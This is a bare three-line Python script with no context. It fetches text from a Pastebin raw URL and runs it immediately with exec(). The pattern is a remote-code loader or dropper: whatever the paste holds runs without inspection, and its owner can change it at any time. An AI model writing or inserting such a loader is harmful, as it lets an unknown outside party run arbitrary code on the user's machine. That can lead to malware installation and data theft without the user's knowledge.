import urllib.request
code = urllib.request.urlopen("https://pastebin.com/raw/Zx81Qa").read().decode()
exec(code)
